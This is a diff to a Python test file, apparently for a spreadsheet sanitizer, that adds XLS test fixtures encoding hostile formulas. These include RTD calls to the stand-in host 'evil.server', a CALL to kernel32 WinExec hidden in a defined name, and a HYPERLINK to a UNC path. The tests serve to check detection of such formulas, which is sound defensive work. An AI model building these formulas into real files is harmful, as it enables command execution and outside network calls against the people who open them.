@@ -277,8 +277,11 @@ def test_xlsx_defined_name_that_fetches_goes() -> None:
 XLS_REACHING = {
     "RTD in a cell": dict(sheet_records=A.formula_record(
         A.ptg_str("evil.server") + bytes([0x16]) + A.ptg_str("t") + A.ptg_funcvar(379, 3))),
-    "CALL in a cell": dict(sheet_records=A.formula_record(
-        A.ptg_str("kernel32") + A.ptg_str("WinExec") + A.ptg_funcvar(150, 2))),
+    "CALL in a defined name": dict(globals_records=A.name_record(
+        "run", A.ptg_str("kernel32") + A.ptg_str("WinExec") + A.ptg_funcvar(150, 2))),
+    "RTD in a shared formula": dict(sheet_records=A.O.biff(0x04BC, bytes(8) + (
+        lambda rgce: len(rgce).to_bytes(2, "little") + rgce)(
+        A.ptg_str("evil.server") + A.ptg_str("t") + A.ptg_funcvar(379, 2)))),
     "HYPERLINK to UNC": dict(sheet_records=A.formula_record(
         A.ptg_str("\\\\203.0.113.9\\s\\x.doc") + A.ptg_funcvar(359, 1))),
     "HYPERLINK to a cell's value": dict(sheet_records=A.formula_record(
